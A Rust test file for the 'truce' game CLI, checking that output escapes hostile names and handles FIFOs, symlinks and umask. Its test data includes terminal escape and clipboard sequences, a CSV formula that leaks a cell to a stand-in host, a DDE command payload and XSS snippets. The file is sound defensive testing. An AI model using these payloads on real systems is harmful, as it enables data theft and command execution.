//! Output that cannot attack its reader, and outputs written as users expect (issue 16, points
//! 2 and 5), in the style of `hostile.rs`: a generator of the hostile input, then the
//! expectation. Every check runs the real binary.
//!
//! - names with escape sequences and bidirectional controls, and 4 MB names, reach no terminal
//!   raw and no report uncapped (`report`, `transcript`, `load --check`, `validate`, `saves`);
//! - CSV of formula-like names parses back to the same rows and columns, formulas guarded;
//! - Markdown of names and file names full of pipes, newlines, headings, images and HTML keeps
//!   exactly its headings and table rows;
//! - `-o` to a FIFO, a device node, a link and a folder; files created 0644 under umask 022.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::os::unix::fs::{FileTypeExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use truce::engine::Game;
use truce::persist::{self, GameInfo, SaveStore};
use truce::scenario::{self, Scenario};
use truce::sim::{self, Strategy};

// ---------------------------------------------------------------------------------------------
// Generators.

/// Names that would drive a terminal if printed raw: clear the screen, set the window title,
/// write the clipboard (OSC 52), a C1 CSI, and the right-to-left override that makes
/// `evil<U+202E>txt.exe` read `evilexe.txt`.
const TERMINAL_ATTACKS: [&str; 5] = [
    "\u{1b}[2J\u{1b}[Hcleared",
    "\u{1b}]0;pwned\u{7}title",
    "\u{1b}]52;c;cHduZWQ=\u{7}clipboard",
    "\u{9b}31mred",
    "evil\u{202e}txt.exe\u{2066}x\u{2069}\u{200f}",
];

/// Names a spreadsheet would run as formulas, or that would break a naive CSV.
const CSV_ATTACKS: [&str; 9] = [
    "=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1",
    "a, b, c",
    "say \"hi\"",
    "two\nlines",
    "\r=cmd|' /C calc'!A0",
];

/// Names that would forge Markdown: cells, headings, images, links, HTML.
const MARKDOWN_ATTACKS: [&str; 8] = [
    "a | b | c",
    "line\n# Corrected scores\n| Eve | 100 |",
    "# Corrected scores",
    "![](http://x/t.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](http://x)",
    "`code` *bold* _em_ ##",
];

/// The built-in scenario.
fn builtin() -> Scenario {
    match scenario::builtin("autumn-2025") {
        Some(Ok(s)) => s,
        other => panic!("the built-in scenario must load: {other:?}"),
    }
}

/// An honest save of two turns of seed 3 in `s`, as its own game (`start` makes the id),
/// carrying this save name and player name.
fn save_of(s: Scenario, start: &str, name: &str, player: Option<&str>) -> String {
    save_after(s, 2, start, name, player)
}

/// As `save_of`, after `turns` of a scripted player's turns (all of them: a finished game).
fn save_after(s: Scenario, turns: usize, start: &str, name: &str, player: Option<&str>) -> String {
    let r = sim::play(&s, Strategy::Structural, 3);
    let mut game = Game::new(Arc::new(s), 3);
    for a in r.actions.iter().take(turns) {
        game.apply(a.clone()).expect("a scripted action");
    }
    let mut info = GameInfo::new(&game.scenario, 3, start);
    info.name = name.to_string();
    info.player = player.map(str::to_string);
    persist::format::to_text(&persist::save_of(&game, &info, "2025-10-30T12:00:00Z"))
        .expect("serialise")
}

fn save_named(i: usize, name: &str, player: Option<&str>) -> String {
    save_of(builtin(), &format!("hostile-{i}"), name, player)
}

/// A custom scenario whose texts carry HTML, images and headings into a transcript.
fn scenario_with_markup() -> Scenario {
    let mut s = builtin();
    s.name = "custom <script>".into();
    s.title = "<script>alert(1)</script> # Corrected".into();
    s.historical.summary = "<img src=x> | ![](http://x/t.png)\n# Corrected scores".into();
    s.issues[0].short = "a|b".into();
    s.issues[0].name = "<b>tariffs</b>".into();
    s
}

// ---------------------------------------------------------------------------------------------
// Running the binary.

/// Runs the binary with a temp home and save folder, in `cwd`, under `umask`, with a deadline.
fn truce_in(home: &Path, cwd: &Path, args: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_truce"))
        .args(args)
        .env("HOME", home)
        .env("XDG_DATA_HOME", home.join("xdg"))
        .env("TRUCE_SAVE_DIR", home.join("saves"))
        .env("NO_COLOR", "1")
        .current_dir(cwd)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run truce");
    // Read while it runs: a report can be bigger than a pipe's buffer.
    let out = std::thread::spawn(move || {
        let start = Instant::now();
        loop {
            if child.try_wait().expect("wait").is_some() {
                return Some(child.wait_with_output().expect("output"));
            }
            if start.elapsed() > Duration::from_secs(60) {
                let _ = child.kill();
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    out.join()
        .unwrap()
        .unwrap_or_else(|| panic!("truce {args:?} hung"))
}

fn truce(home: &Path, args: &[&str]) -> Output {
    truce_in(home, home, args)
}

/// Runs the binary through `sh` under this umask.
fn truce_umask(home: &Path, umask: &str, args: &[&str]) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
        .arg(env!("CARGO_BIN_EXE_truce"))
        .args(args)
        .env("HOME", home)
        .env("XDG_DATA_HOME", home.join("xdg"))
        .env("TRUCE_SAVE_DIR", home.join("saves"))
        .current_dir(home)
        .output()
        .expect("run truce through sh")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// What a terminal would obey: C0 controls but the line end, DEL, C1, bidi controls.
fn obeyed(stream: &[u8]) -> Vec<char> {
    text(stream)
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(
                    c,
                    '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
                        | '\u{2066}'..='\u{2069}'
                )
        })
        .collect()
}

fn saves_dir(home: &Path) -> PathBuf {
    let dir = home.join("saves");
    fs::create_dir_all(&dir).unwrap();
    dir
}

fn mode(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o777
}

// ---------------------------------------------------------------------------------------------
// Point 2: one output discipline.

#[test]
fn names_with_escapes_bidi_and_megabytes_reach_no_terminal_raw() {
    let home = tempfile::tempdir().unwrap();
    let dir = saves_dir(home.path());
    let mut files = Vec::new();
    for (i, attack) in TERMINAL_ATTACKS.iter().enumerate() {
        let path = dir.join(format!("attack-{i}.ron"));
        fs::write(&path, save_named(i, attack, Some(attack))).unwrap();
        files.push(path);
    }
    // A file name that is itself an attack, and a broken file quoting one.
    let evil_file = dir.join("x\u{1b}]0;pwned\u{7}\u{202e}.ron");
    fs::write(&evil_file, save_named(10, "plain", Some("Ana"))).unwrap();
    files.push(evil_file);
    fs::write(
        dir.join("broken\u{1b}[2J.ron"),
        "TruceSave(version: 2, name: \"\u{1b}[2J\u{202e}\", saved_at: \"\u{1b}]0;x\u{7}\", garbage",
    )
    .unwrap();
    // 4 MB of save name and 3.5 MB of player name: a legal save just under the 8 MB cap.
    let huge = dir.join("huge.ron");
    fs::write(
        &huge,
        save_named(11, &"n".repeat(4_000_000), Some(&"p".repeat(3_500_000))),
    )
    .unwrap();
    files.push(huge.clone());

    let d = dir.to_str().unwrap();
    let mut runs: Vec<Vec<String>> = vec![
        vec!["saves".into()],
        vec!["report".into(), d.into()],
        vec!["report".into(), "--csv".into(), d.into()],
    ];
    for f in &files {
        let f = f.to_str().unwrap().to_string();
        runs.push(vec!["transcript".into(), f.clone()]);
        runs.push(vec!["load".into(), "--check".into(), f.clone()]);
        runs.push(vec!["validate".into(), f]);
    }
    for args in &runs {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = truce(home.path(), &args);
        for stream in [&out.stdout, &out.stderr] {
            let bad = obeyed(stream);
            assert!(bad.is_empty(), "{args:?} printed {bad:?}: {}", text(stream));
            // Names are capped where read: no run of the 4 MB name survives past the cap.
            assert!(!text(stream).contains(&"n".repeat(121)), "{args:?}");
            assert!(!text(stream).contains(&"p".repeat(41)), "{args:?}");
        }
    }
    // The report of the whole folder stays small: 7.5 MB of names made none of it.
    let out = truce(home.path(), &["report", d]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(out.stdout.len() < 64 * 1024, "{} bytes", out.stdout.len());
    // The file name is shown escaped, not dropped: the reader can still find the file.
    let listing = text(&truce(home.path(), &["saves"]).stdout);
    assert!(
        listing.contains("x\\u{1b}]0;pwned\\u{7}\\u{202e}.ron"),
        "{listing}"
    );
    // The capped names are cut visibly.
    let check = text(&truce(home.path(), &["load", "--check", huge.to_str().unwrap()]).stdout);
    assert!(check.contains(&format!("{}…", "n".repeat(119))), "{check}");
}

/// A tiny RFC 4180 reader: records of fields, quoted fields with doubled quotes and line
/// breaks inside, records ended by LF or CRLF.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    let mut started = false;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => field.push(c),
            }
            continue;
        }
        match c {
            '"' if field.is_empty() => quoted = true,
            ',' => record.push(std::mem::take(&mut field)),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                started = false;
                continue;
            }
            c => field.push(c),
        }
        started = true;
    }
    if started {
        record.push(field);
        records.push(record);
    }
    records
}

#[test]
fn csv_of_formula_names_keeps_its_rows_and_guards_every_formula() {
    let home = tempfile::tempdir().unwrap();
    let dir = saves_dir(home.path());
    let mut args = vec!["report".to_string(), "--csv".to_string()];
    for (i, attack) in CSV_ATTACKS.iter().enumerate() {
        let file = format!("s{i}.ron");
        fs::write(dir.join(&file), save_named(i, attack, Some(attack))).unwrap();
        args.push(file);
    }
    // File names can be formulas and break lines too (given relative, so they open the cell).
    for (i, name) in ["=1+1.ron", "@x,\"y\"\n+z.ron"].iter().enumerate() {
        fs::write(dir.join(name), save_named(20 + i, "plain", None)).unwrap();
        args.push((*name).to_string());
    }
    // An unreadable file whose error quotes formula-like text.
    fs::write(
        dir.join("=bad.ron"),
        "TruceSave(version: 2, name: \"=1\", oops",
    )
    .unwrap();
    args.push("=bad.ron".into());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = truce_in(home.path(), &dir, &args);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let csv = text(&out.stdout);
    assert!(!csv.contains('\r'), "LF line ends only: {csv:?}");
    assert!(obeyed(csv.as_bytes()).is_empty(), "{csv:?}");
    let records = parse_csv(&csv);
    let games = CSV_ATTACKS.len() + 2;
    assert_eq!(records.len(), 1 + games + 1, "{csv}");
    // One record per line: no quoted line break was needed.
    assert_eq!(csv.lines().count(), records.len(), "{csv}");
    let width = records[0].len();
    assert_eq!(records[0][0], "player");
    for r in &records {
        assert_eq!(r.len(), width, "{r:?}\n{csv}");
        for cell in r {
            assert!(
                !cell
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}\n{csv}"
            );
        }
    }
    // The guard is a leading `'` on the text as it was, so the name is still readable.
    let players: Vec<&str> = records[1..=CSV_ATTACKS.len()]
        .iter()
        .map(|r| r[0].as_str())
        .collect();
    for want in [
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "a, b, c",
        "say \"hi\"",
        "two lines",
    ] {
        assert!(players.contains(&want), "{want:?} in {players:?}");
    }
    assert!(
        players.iter().any(|p| p.starts_with("'=HYPERLINK(")),
        "{players:?}"
    );
    // Numeric columns stay numbers: seed, week, reloads and scores parse as such.
    for r in &records[1..=games] {
        for (i, cell) in r.iter().enumerate().skip(3) {
            if [3, 5, 7].contains(&i) || (8..width - 1).contains(&i) {
                assert!(cell.parse::<f64>().is_ok(), "column {i}: {cell:?}");
            }
        }
    }
}

/// The Markdown's structure: headings, and for each table its row count and each row's cells.
fn headings(md: &str) -> Vec<&str> {
    md.lines().filter(|l| l.starts_with('#')).collect()
}

/// Each table (a run of lines starting with `|`): its rows, each split on unescaped pipes.
fn tables(md: &str) -> Vec<Vec<usize>> {
    let mut out: Vec<Vec<usize>> = Vec::new();
    let mut open = false;
    for line in md.lines() {
        if line.starts_with('|') {
            if !open {
                out.push(Vec::new());
                open = true;
            }
            // Pipes not escaped by an odd run of backslashes.
            let mut pipes = 0;
            let mut slashes = 0;
            for c in line.chars() {
                if c == '|' && slashes % 2 == 0 {
                    pipes += 1;
                }
                slashes = if c == '\\' { slashes + 1 } else { 0 };
            }
            out.last_mut().unwrap().push(pipes);
        } else {
            open = false;
        }
    }
    out
}

/// No HTML, image, link or emphasis from a file: every `<` is written `&lt;`, every `[` and
/// `` ` `` escaped.
fn assert_inert(md: &str) {
    assert!(!md.contains('<'), "raw <: {md}");
    assert!(!md.contains("!["), "an image: {md}");
    let mut slashes = 0;
    for c in md.chars() {
        if matches!(c, '[' | ']' | '`') {
            assert!(slashes % 2 == 1, "an unescaped {c}: {md}");
        }
        slashes = if c == '\\' { slashes + 1 } else { 0 };
    }
    assert!(obeyed(md.as_bytes()).is_empty(), "{md:?}");
}

#[test]
fn markdown_of_hostile_names_keeps_exactly_its_headings_and_rows() {
    let home = tempfile::tempdir().unwrap();
    let dir = saves_dir(home.path());
    for (i, attack) in MARKDOWN_ATTACKS.iter().enumerate() {
        let finished = save_after(
            builtin(),
            usize::MAX,
            &format!("m{i}"),
            attack,
            Some(attack),
        );
        fs::write(dir.join(format!("m{i}.ron")), finished).unwrap();
    }
    // File names that would forge a heading, a row and an image (and one unfinished, so it is
    // named in prose too); a broken one, named under "Files not read".
    // (No `/` in a file name: the image points at a relative address.)
    let forged = "f\n# Corrected scores\n| Eve | 100 |\n![](t.png?leak).ron";
    fs::write(dir.join(forged), save_named(30, "x", None)).unwrap();
    fs::write(dir.join("<script>\n# Corrected.ron"), "not a save <script>").unwrap();
    let out = truce(home.path(), &["report", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let md = text(&out.stdout);
    let games = MARKDOWN_ATTACKS.len() + 1;
    assert_eq!(
        headings(&md),
        [
            "# Class results",
            "## Games",
            &format!("## autumn-2025, seed 3: {games} game(s)"),
            "## Files not read",
        ],
        "{md}"
    );
    let t = tables(&md);
    // Games (header, separator, one row per game), then the means (header, separator, seven
    // scores); every row with as many cells as its header.
    // The signed deals beside history (header, separator, one row per issue) come last.
    assert_eq!(t.len(), 3, "{md}");
    assert_eq!(t[0].len(), 2 + games, "{md}");
    assert_eq!(t[1].len(), 2 + 7, "{md}");
    assert_eq!(t[2].len(), 2 + builtin().issues.len(), "{md}");
    for table in &t {
        assert!(table.iter().all(|&n| n == table[0]), "{table:?}\n{md}");
    }
    assert_inert(&md);

    // A transcript of a save named and played by an attacker, in a scenario whose texts carry
    // HTML, an image and a heading.
    let save = dir.join("custom.ron");
    let attack = MARKDOWN_ATTACKS.join(" ");
    fs::write(
        &save,
        save_of(scenario_with_markup(), "custom", &attack, Some(&attack)),
    )
    .unwrap();
    let out = truce(home.path(), &["transcript", save.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let md = text(&out.stdout);
    let heads = headings(&md);
    assert_eq!(
        heads.iter().filter(|h| h.starts_with("# ")).count(),
        1,
        "{heads:?}"
    );
    assert!(
        heads[0].starts_with("# After-action report: &lt;script&gt;"),
        "{heads:?}"
    );
    assert!(
        !heads.iter().any(|h| h.contains("Corrected scores")),
        "{heads:?}"
    );
    for table in tables(&md) {
        assert!(table.iter().all(|&n| n == table[0]), "{table:?}\n{md}");
    }
    // The fact table: scenario, seed, player, save, outcome, moves.
    assert_eq!(tables(&md)[0].len(), 2 + 6, "{md}");
    assert_inert(&md);
}

// ---------------------------------------------------------------------------------------------
// Point 5: outputs written as users expect.

/// A save to write transcripts of.
fn one_save(home: &Path) -> PathBuf {
    let path = saves_dir(home).join("game.ron");
    fs::write(&path, save_named(0, "Game", Some("Ana"))).unwrap();
    path
}

#[test]
fn output_to_a_fifo_is_written_through() {
    let home = tempfile::tempdir().unwrap();
    let save = one_save(home.path());
    let fifo = home.path().join("pipe");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path; mkfifo only creates a file.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).unwrap())
    };
    let out = truce(
        home.path(),
        &[
            "transcript",
            save.to_str().unwrap(),
            "-o",
            fifo.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // Checked before waiting on the reader: a FIFO replaced by a file would leave it blocked.
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    let got = reader.join().unwrap();
    assert!(got.starts_with("# After-action report"), "{got}");
}

#[test]
fn output_to_a_device_or_a_link_to_one_keeps_the_device() {
    let home = tempfile::tempdir().unwrap();
    let save = one_save(home.path());
    let save = save.to_str().unwrap();
    // A device node of our own (root only: elsewhere mknod is refused and this part skipped).
    let node = home.path().join("null");
    let c = std::ffi::CString::new(node.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path; mknod only creates a node (1, 3 is /dev/null's).
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) };
    if made == 0 {
        let out = truce(home.path(), &["report", save, "-o", node.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let kind = fs::symlink_metadata(&node).unwrap().file_type();
        assert!(kind.is_char_device(), "the node was replaced: {kind:?}");
    }
    // A link to /dev/null: the link stays a link, /dev/null a device.
    let link = home.path().join("to-null");
    std::os::unix::fs::symlink("/dev/null", &link).unwrap();
    let out = truce(home.path(), &["report", save, "-o", link.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_link(&link).unwrap(), Path::new("/dev/null"));
    assert!(
        fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_char_device()
    );
    // /dev/stdout: the text arrives on this process's stdout.
    let out = truce(home.path(), &["transcript", save, "-o", "/dev/stdout"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).starts_with("# After-action report"));
    assert!(
        fs::symlink_metadata("/dev/stdout")
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[test]
fn output_to_a_link_writes_its_target_and_keeps_the_link() {
    let home = tempfile::tempdir().unwrap();
    let save = one_save(home.path());
    let save = save.to_str().unwrap();
    let target = home.path().join("real.md");
    fs::write(
        &target,
        "old contents that are longer than nothing ".repeat(1000),
    )
    .unwrap();
    let link = home.path().join("link.md");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let out = truce(
        home.path(),
        &["transcript", save, "-o", link.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let written = fs::read_to_string(&target).unwrap();
    assert!(written.starts_with("# After-action report"), "{written}");
    assert!(
        !written.contains("old contents"),
        "the old text was not cut"
    );
    // A link to a file not there yet: the file is made where the link points.
    let dangling = home.path().join("later.md");
    let later = home.path().join("sub-later.md");
    std::os::unix::fs::symlink(&later, &dangling).unwrap();
    let out = truce(
        home.path(),
        &["transcript", save, "-o", dangling.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        fs::symlink_metadata(&dangling)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        fs::read_to_string(&later)
            .unwrap()
            .starts_with("# After-action report")
    );
}

#[test]
fn output_to_a_folder_is_a_clear_error() {
    let home = tempfile::tempdir().unwrap();
    let save = one_save(home.path());
    let save = save.to_str().unwrap();
    let folder = home.path().join("out");
    fs::create_dir(&folder).unwrap();
    let missing = format!("{}/", home.path().join("missing").display());
    let f = folder.to_str().unwrap().to_string();
    for target in [f.clone(), format!("{f}/"), missing.clone()] {
        for args in [
            vec!["transcript", save, "-o", &target],
            vec!["report", save, "-o", &target],
            vec!["scenarios", "--export", "autumn-2025", "-o", &target],
        ] {
            let out = truce(home.path(), &args);
            assert_eq!(out.status.code(), Some(1), "{args:?}");
            let err = text(&out.stderr);
            assert!(
                err.contains(target.trim_end_matches('/')),
                "{args:?}: {err}"
            );
            assert!(err.contains("is a folder"), "{args:?}: {err}");
            assert!(!err.contains("Not a directory"), "{args:?}: {err}");
        }
    }
    assert_eq!(fs::read_dir(&folder).unwrap().count(), 0);
    assert!(!Path::new(&missing).exists());
}

#[test]
fn outputs_saves_and_autosaves_honour_the_umask() {
    let home = tempfile::tempdir().unwrap();
    let save = one_save(home.path());
    let save = save.to_str().unwrap();
    for (umask, want) in [("022", 0o644), ("027", 0o640)] {
        let md = home.path().join(format!("t-{umask}.md"));
        let out = truce_umask(
            home.path(),
            umask,
            &["transcript", save, "-o", md.to_str().unwrap()],
        );
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_eq!(mode(&md), want, "-o under umask {umask}");
        // Replacing a 0600 file: the new file has the umask's mode.
        fs::set_permissions(&md, fs::Permissions::from_mode(0o600)).unwrap();
        let out = truce_umask(
            home.path(),
            umask,
            &["transcript", save, "-o", md.to_str().unwrap()],
        );
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_eq!(mode(&md), want, "-o over a 0600 file under umask {umask}");
        // Saves written by `simulate --save-to`.
        let dir = home.path().join(format!("sim-{umask}"));
        let out = truce_umask(
            home.path(),
            umask,
            &[
                "simulate",
                "--games",
                "1",
                "--strategy",
                "hawk",
                "--save-to",
                dir.to_str().unwrap(),
            ],
        );
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        for f in fs::read_dir(&dir).unwrap() {
            assert_eq!(
                mode(&f.unwrap().path()),
                want,
                "simulate save under {umask}"
            );
        }
    }
    // The game's own save and autosave slots, written in this process (umask 022 here, as the
    // test runner's: set it so, since it is process-wide and every file below expects it).
    // SAFETY: umask only swaps the process's mask; every test here expects 022.
    unsafe { libc::umask(0o022) };
    let dir = home.path().join("slots");
    let store = SaveStore::new(&dir);
    let loaded = persist::load_game(Path::new(save)).unwrap();
    let info = loaded.info.clone();
    let auto = store.autosave_path(&info);
    fs::create_dir_all(&dir).unwrap();
    fs::write(&auto, "old").unwrap();
    fs::set_permissions(&auto, fs::Permissions::from_mode(0o600)).unwrap();
    store.autosave(&loaded.game, &info, "now").unwrap();
    assert_eq!(mode(&auto), 0o644, "autosave");
    let named = store
        .save_named("Week 2", &loaded.game, &info, "now")
        .unwrap();
    assert_eq!(mode(&named), 0o644, "save");
}
